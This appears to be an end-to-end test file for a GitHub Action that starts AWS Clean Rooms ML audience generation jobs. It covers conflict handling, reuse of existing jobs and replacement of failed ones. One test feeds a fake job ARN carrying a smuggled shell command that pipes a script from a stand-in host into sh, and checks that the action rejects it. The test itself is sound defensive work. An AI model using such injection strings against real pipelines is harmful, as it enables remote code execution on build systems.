// End to end: if-exists: reuse when the listing breaks the API's contract or lags behind, a dead
// job that reuse must not pass, and replace-failed's recovery of a re-run.
import { startEmulator, type Emulator, type Fault } from '../emulator/index.js'
import { EMULATOR_CREDENTIALS, ENV_CREDENTIALS, runAction, runnerEnv, type ActionRun } from './helpers/run-action.js'
import { MODEL_ARN, VALID_INPUTS } from './helpers/fixtures.js'

const INPUTS = { ...VALID_INPUTS, name: 'weekly-audience', 'if-exists': 'reuse' }
const CONFLICT: Fault = { kind: 'error', status: 409, type: 'ConflictException', message: 'The name is taken.' }

let emulator: Emulator
beforeAll(async () => {
  emulator = await startEmulator({ credentials: [EMULATOR_CREDENTIALS] })
})
afterAll(async () => emulator.close())
beforeEach(() => emulator.reset())

async function run(): Promise<ActionRun> {
  return runAction({
    inputs: INPUTS,
    env: { ...runnerEnv(emulator), ...ENV_CREDENTIALS, CLEANROOMS_ML_ACTION_TIME_SCALE: '0.01' }
  })
}

function listings(): string[] {
  return emulator.requests
    .filter((request) => request.operation === 'ListAudienceGenerationJobs')
    .map((request) => request.query['configuredAudienceModelArn'] ?? 'all models')
}

describe('a job the service says exists but does not list', () => {
  it('is listed again, then reported without guessing at another account', async () => {
    emulator.fault('cleanrooms-ml', 'StartAudienceGenerationJob', CONFLICT)
    const result = await run()
    expect(result.code).toBe(1)
    expect(result.outputs['error-type']).toBe('ExistingJobMismatch')
    // Five listings, each of the model's jobs and then of every job.
    expect(listings()).toEqual(Array.from({ length: 5 }, () => [MODEL_ARN, 'all models']).flat())
    const message = result.annotations[0]!.message
    expect(message).toContain('no such job is listed in this account (5 listings')
    expect(message).not.toMatch(/another account|other account/i)
  })
})

describe('an ARN from the listing is held to the model pattern', () => {
  it('never becomes the output', async () => {
    emulator.fault('cleanrooms-ml', 'StartAudienceGenerationJob', CONFLICT)
    emulator.fault('cleanrooms-ml', 'ListAudienceGenerationJobs', {
      kind: 'raw',
      status: 200,
      body: JSON.stringify({
        audienceGenerationJobs: [
          {
            name: INPUTS.name,
            configuredAudienceModelArn: MODEL_ARN,
            status: 'ACTIVE',
            audienceGenerationJobArn: `arn:aws:cleanrooms-ml:us-east-1:123456789012:audience-generation-job/x"; curl https://example.test | sh; echo "`
          }
        ]
      })
    })
    const result = await run()
    expect(result.code).toBe(1)
    expect(result.outputs['error-type']).toBe('UnexpectedResponse')
    expect(result.outputs['audience-generation-job-arn']).toBeUndefined()
    expect(result.annotations[0]!.message).toContain('must match the pattern')
  })
})

describe('a re-run after a failed job', () => {
  it('fails with reuse, naming the failed job and the way out', async () => {
    const failed = emulator.addJob({
      name: INPUTS.name,
      configuredAudienceModelArn: MODEL_ARN,
      status: 'CREATE_FAILED'
    })
    const result = await run()
    expect(result.code).toBe(1)
    expect(result.outputs).toMatchObject({
      'error-type': 'ExistingJobNotReusable',
      'audience-generation-job-arn': failed.audienceGenerationJobArn,
      created: 'false',
      status: 'CREATE_FAILED'
    })
    expect(result.annotations).toHaveLength(1)
    expect(result.annotations[0]!.message).toContain('if-exists: replace-failed')
  })

  it('starts the job again with replace-failed, once the failed one is deleted', async () => {
    const failed = emulator.addJob({
      name: INPUTS.name,
      configuredAudienceModelArn: MODEL_ARN,
      status: 'CREATE_FAILED'
    })
    const result = await runAction({
      inputs: { ...INPUTS, 'if-exists': 'replace-failed', 'wait-for-completion': 'true' },
      env: { ...runnerEnv(emulator), ...ENV_CREDENTIALS, CLEANROOMS_ML_ACTION_TIME_SCALE: '0.01' }
    })
    expect(result.code).toBe(0)
    expect(emulator.jobs).toHaveLength(1)
    const replacement = emulator.jobs[0]!
    expect(replacement.status).toBe('ACTIVE')
    expect(result.outputs).toMatchObject({
      'audience-generation-job-arn': replacement.audienceGenerationJobArn,
      created: 'true',
      status: 'ACTIVE'
    })
    const notice = result.annotations.find((annotation) => annotation.level === 'notice')
    expect(notice?.message).toContain(failed.audienceGenerationJobArn)
    expect(emulator.requests.map((request) => request.operation)).toContain('DeleteAudienceGenerationJob')
  })
})
